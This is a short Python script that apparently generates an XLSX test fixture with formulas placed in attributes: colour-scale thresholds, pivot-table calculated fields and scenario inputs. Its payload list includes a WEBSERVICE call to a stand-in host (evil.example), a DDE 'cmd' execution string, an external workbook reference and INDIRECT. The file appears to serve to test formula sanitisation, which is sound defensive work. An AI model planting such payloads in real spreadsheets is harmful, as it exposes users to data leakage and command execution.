# SPDX-License-Identifier: GPL-2.0-or-later
"""Formulas in attributes: thresholds of colour scales and icons, fields that a pivot table computes, values that a scenario enters."""
from recipes import emit
from recipes_ooxml import *

ACTS = ["WEBSERVICE(&quot;http://evil.example/&quot;)", "cmd|&apos;/c MARK&apos;!A0", "[1]Sheet1!$A$1", "INDIRECT(A1)"]
SCALE = ('<conditionalFormatting sqref="A1:A3"><cfRule type="colorScale" priority="{}"><colorScale><cfvo type="{}" val="{}"/><cfvo type="max"/>'
         '<color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>')
CACHE = (f'<pivotCacheDefinition {S}><cacheSource type="worksheet"><worksheetSource ref="A1:A3" sheet="Sheet1"/></cacheSource><cacheFields count="3"><cacheField name="a" numFmtId="0"><sharedItems/></cacheField>'
         f'<cacheField name="Field1" numFmtId="0" formula="{ACTS[0]}" databaseField="0"/><cacheField name="Field2" numFmtId="0" formula="a*2" databaseField="0"/></cacheFields></pivotCacheDefinition>')
SCENARIOS = f'<scenarios current="0"><scenario name="one" count="2"><inputCells r="A1" val="={ACTS[0]}"/><inputCells r="A2" val="-5"/></scenario></scenarios>'
emit(xlsx(cell("A1", "1") + cell("A2", "KEPT", kind=' t="str"'),
          sheet_extra=SCENARIOS + "".join(SCALE.format(i + 1, kind, acts) for i, (kind, acts) in enumerate((kind, acts) for acts in ACTS for kind in ("formula", "num")))
          + SCALE.format(9, "formula", "$A$1*2") + SCALE.format(10, "percent", "10"),
          book_extra='<pivotCaches><pivotCache cacheId="1" r:id="rId9"/></pivotCaches>', rels=[("rId9", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")],
          parts={"xl/pivotCache/pivotCacheDefinition1.xml": CACHE},
          types={"xl/pivotCache/pivotCacheDefinition1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"}))
